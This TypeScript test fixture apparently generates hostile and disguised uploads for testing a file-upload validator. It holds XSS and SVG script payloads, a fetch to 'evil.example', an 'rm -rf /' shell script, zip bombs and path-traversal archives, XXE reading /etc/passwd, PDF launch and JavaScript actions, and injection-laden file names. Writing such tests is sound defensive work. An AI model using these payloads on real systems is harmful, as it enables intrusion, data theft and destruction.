// Files that are not what they say, or more than they say. All are made here, and all are small.
import { crc32, deflateRawSync, deflateSync } from 'node:zlib'
import type { Kind } from '#src/features/documents/rules.ts'

/** `truly` is what a file is by its content; what is nothing that we take is taken nowhere, whatever its name. */
export type Upload = { tries: string; name: string; content: () => Buffer; truly?: Kind }

const text = (...parts: (string | Buffer)[]) =>
  Buffer.concat(parts.map(part => (typeof part === 'string' ? Buffer.from(part, 'latin1') : part)))

const page = '<!doctype html><script>window.__xss = 1</script>'
const drawing =
  '<svg xmlns="http://www.w3.org/2000/svg" onload="window.__xss = 1"><script>window.__xss = 1</script></svg>'
const script = 'window.__xss = 1; fetch("https://evil.example")'

const chunk = (name: string, data: Buffer) => {
  const body = text(name, data)
  const frame = Buffer.alloc(8)
  frame.writeUInt32BE(data.length)
  frame.writeUInt32BE(crc32(body), 4)
  return Buffer.concat([frame.subarray(0, 4), body, frame.subarray(4)])
}
export function png({ side = 1, more = Buffer.alloc(0) }: { side?: number; more?: Buffer } = {}): Buffer {
  const size = Buffer.alloc(13)
  size.writeUInt32BE(side)
  size.writeUInt32BE(side, 4)
  size.set([8, 6, 0, 0, 0], 8)
  return Buffer.concat([
    Buffer.from('89504e470d0a1a0a', 'hex'),
    chunk('IHDR', size),
    more,
    chunk('IDAT', deflateSync(Buffer.alloc(5))),
    chunk('IEND', Buffer.alloc(0)),
  ])
}

const pdf = (inside = '', head = '%PDF-1.7\n') =>
  text(
    head,
    `1 0 obj<</Type/Catalog/Pages 2 0 R${inside}>>endobj\n2 0 obj<</Type/Pages/Kids[]/Count 0>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF\n`,
  )

type Part = { name: string; content: Buffer; says?: number }
export function zip(parts: readonly Part[]): Buffer {
  const written = parts.map(({ name, content, says = content.length }) => {
    const packed = deflateRawSync(content, { level: 9 })
    const head = Buffer.alloc(30)
    head.writeUInt32LE(0x04034b50)
    head.writeUInt16LE(20, 4)
    head.writeUInt16LE(8, 8)
    head.writeUInt32LE(crc32(content), 14)
    head.writeUInt32LE(packed.length, 18)
    head.writeUInt32LE(says, 22)
    head.writeUInt16LE(name.length, 26)
    return Buffer.concat([head, Buffer.from(name), packed])
  })
  return Buffer.concat(written)
}
const types = {
  name: '[Content_Types].xml',
  content: Buffer.from(
    '<Types><Override ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml" PartName="/word/document.xml"/></Types>',
  ),
}
const word = (document: string | Buffer, more: readonly Part[] = []) =>
  zip([types, { name: 'word/document.xml', content: Buffer.from(document) }, ...more])

const laughs = `<!DOCTYPE lolz [<!ENTITY a "ha">${Array.from({ length: 9 }, (_, index) => `<!ENTITY ${'bcdefghij'[index]} "${`&${'abcdefghi'[index]};`.repeat(10)}">`).join('')}]><w:p>&j;</w:p>`
const fetches =
  '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY % y SYSTEM "http://127.0.0.1:1/evil.dtd">%y;]><w:p>&x;</w:p>'
const eicar = ['X5O!P%@AP[4\\PZX54(P^)7CC)7}$', 'EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*'].join('')

const disguised: Upload[] = ['png', 'jpg', 'webp', 'pdf', 'docx', 'doc', 'mp4', 'webm', 'mp3', 'vtt'].flatMap(
  ending => [
    { tries: `a page as ${ending}`, name: `a.${ending}`, content: () => text(page) },
    { tries: `a drawing that runs as ${ending}`, name: `a.${ending}`, content: () => text(drawing) },
    { tries: `a script as ${ending}`, name: `a.${ending}`, content: () => text(script) },
    { tries: `nothing as ${ending}`, name: `a.${ending}`, content: () => Buffer.alloc(0) },
  ],
)

/** Names are tried with a picture that is one. */
const named = (tries: string, name: string): Upload => ({ tries, name, content: () => png(), truly: 'png' })

const all: readonly Upload[] = [
  ...disguised,
  { tries: 'a drawing under its own name', name: 'a.svg', content: () => text(drawing) },
  { tries: 'a page under its own name', name: 'a.html', content: () => text(page) },
  { tries: 'a program as a picture', name: 'a.png', content: () => text('MZ\x90\0', Buffer.alloc(200)) },
  {
    tries: 'a program of Linux as a paper',
    name: 'a.pdf',
    content: () => text('\x7fELF\x02\x01\x01', Buffer.alloc(200)),
  },
  { tries: 'a shell script as a paper', name: 'a.pdf', content: () => text('#!/bin/sh\nrm -rf /\n') },
  { tries: 'the test of virus scanners as a paper', name: 'eicar.pdf', content: () => text(eicar) },
  {
    tries: 'the test of virus scanners behind a paper',
    name: 'eicar.pdf',
    content: () => text(pdf(), eicar),
  },
  // Two things at once.
  {
    tries: 'a GIF that is a script',
    name: 'a.png',
    content: () => text('GIF89a/*', Buffer.alloc(20), `*/=1;${script}`),
  },
  { tries: 'a paper that is a page', name: 'a.pdf', content: () => text('%PDF-1.7\n', page, pdf()), truly: 'pdf' },
  { tries: 'a page that is a paper further on', name: 'a.pdf', content: () => text(page, pdf()) },
  {
    tries: 'a picture with a script in its text',
    name: 'a.png',
    content: () => png({ more: chunk('tEXt', text('Comment\0', page)) }),
    truly: 'png',
  },
  { tries: 'a picture with a page behind it', name: 'a.png', content: () => text(png(), page), truly: 'png' },
  {
    tries: 'a photo with a script in its comment',
    name: 'a.jpg',
    content: () =>
      text(Buffer.from('ffd8ffe000104a46494600010100000100010000fffe0040', 'hex'), page, Buffer.from('ffd9', 'hex')),
    truly: 'jpeg',
  },
  { tries: 'a picture that says it is a paper', name: 'a.pdf', content: () => png(), truly: 'png' },
  { tries: 'a paper that says it is a picture', name: 'a.png', content: () => pdf(), truly: 'pdf' },
  {
    tries: 'captions with a page in them',
    name: 'a.vtt',
    content: () => text('WEBVTT\n\n00:00.000 --> 00:01.000\n', page),
    truly: 'vtt',
  },
  // Larger inside than outside.
  {
    tries: 'an archive that is a hundred times as large inside',
    name: 'a.docx',
    content: () => word(Buffer.alloc(4_000_000)),
    truly: 'docx',
  },
  {
    tries: 'an archive whose first part is a thousand times as large',
    name: 'a.docx',
    content: () =>
      zip([
        { ...types, content: Buffer.alloc(40_000_000, 32) },
        { name: 'word/document.xml', content: Buffer.alloc(10) },
      ]),
    truly: 'docx',
  },
  {
    tries: 'an archive in an archive in an archive',
    name: 'a.docx',
    content: () =>
      word('', [
        {
          name: 'word/a.zip',
          content: zip([{ name: 'b.zip', content: zip([{ name: 'c', content: Buffer.alloc(100_000) }]) }]),
        },
      ]),
    truly: 'docx',
  },
  {
    tries: 'an archive that leads out of its folder',
    name: 'a.docx',
    content: () => word('', [{ name: '../../../../etc/cron.d/evil', content: Buffer.from('evil') }]),
    truly: 'docx',
  },
  { tries: 'a billion laughs', name: 'a.docx', content: () => word(laughs), truly: 'docx' },
  { tries: 'a text that fetches', name: 'a.docx', content: () => word(fetches), truly: 'docx' },
  {
    tries: 'a Word file with macros',
    name: 'a.docx',
    content: () =>
      zip([
        {
          ...types,
          content: Buffer.from(
            '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml" PartName="/word/document.xml"/></Types>',
          ),
        },
        { name: 'word/vbaProject.bin', content: Buffer.from('evil') },
      ]),
  },
  {
    tries: 'an archive of anything',
    name: 'a.docx',
    content: () => zip([{ name: 'evil.exe', content: Buffer.from('MZ') }]),
  },
  {
    tries: 'a picture of a hundred thousand by a hundred thousand',
    name: 'a.png',
    content: () => png({ side: 100_000 }),
    truly: 'png',
  },
  { tries: 'a picture of no size', name: 'a.png', content: () => png({ side: 0 }), truly: 'png' },
  { tries: 'a picture cut short', name: 'a.png', content: () => png().subarray(0, 40), truly: 'png' },
  { tries: 'the first four bytes of a picture', name: 'a.png', content: () => png().subarray(0, 4) },
  // Papers that do something.
  {
    tries: 'a paper with a script',
    name: 'a.pdf',
    content: () => pdf('/OpenAction<</S/JavaScript/JS(app.alert(1))>>'),
    truly: 'pdf',
  },
  {
    tries: 'a paper that starts a program',
    name: 'a.pdf',
    content: () => pdf('/OpenAction<</S/Launch/F(cmd.exe)>>'),
    truly: 'pdf',
  },
  {
    tries: 'a paper with a file in it',
    name: 'a.pdf',
    content: () => pdf('/Names<</EmbeddedFiles<</Names[(evil.exe) 3 0 R]>>>>'),
    truly: 'pdf',
  },
  {
    tries: 'a paper that fetches',
    name: 'a.pdf',
    content: () =>
      pdf('/OpenAction<</S/URI/URI(http://127.0.0.1:1/)>>/AA<</O<</S/SubmitForm/F(http://127.0.0.1:1/)>>>>'),
    truly: 'pdf',
  },
  {
    tries: 'a paper that is its own page for ever',
    name: 'a.pdf',
    content: () =>
      text(
        '%PDF-1.7\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[2 0 R 2 0 R]/Count 9999999/Parent 2 0 R>>endobj\ntrailer<</Root 1 0 R/Prev 0>>\n%%EOF',
      ),
    truly: 'pdf',
  },
  { tries: 'a paper that is locked', name: 'a.pdf', content: () => pdf('/Encrypt 3 0 R'), truly: 'pdf' },
  { tries: 'a paper cut short', name: 'a.pdf', content: () => pdf().subarray(0, 30), truly: 'pdf' },
  // Names.
  named('two endings', 'a.html.png'),
  named('the ending of a page behind that of a picture', 'a.png.html'),
  named('a path', '../../../../etc/passwd.png'),
  named('a path of Windows', String.raw`C:\..\..\evil.png`),
  named('a name that is a path alone', '../..'),
  named('letters turned round', 'gepj.\u202egnp.png'),
  named('a line break and a header', 'a\r\nSet-Cookie: x=y\r\n.png'),
  named('a quote and another name', 'a"; filename="evil.html.png'),
  named('a page in the name', '<img src=x onerror=alert(1)>.png'),
  named('ten thousand letters', `${'a'.repeat(10_000)}.png`),
  named('nine hundred letters', `${'a'.repeat(900)}.png`),
  named('three hundred letters of four bytes', `${'\u{1f600}'.repeat(300)}.png`),
  named('a device of Windows', 'con.png'),
  named('half a letter', 'a\ud800.png'),
  named('no name before its ending', '.png'),
  named('spaces', '   .png   '),
  named('a NUL and another ending', 'a.html\0.png'),
]

/** Each is made once: there are bombs among them, and every purpose is tried with all. */
export const uploads: readonly Upload[] = all.map(upload => {
  let made: Buffer | undefined
  return { ...upload, content: () => (made ??= upload.content()) }
})
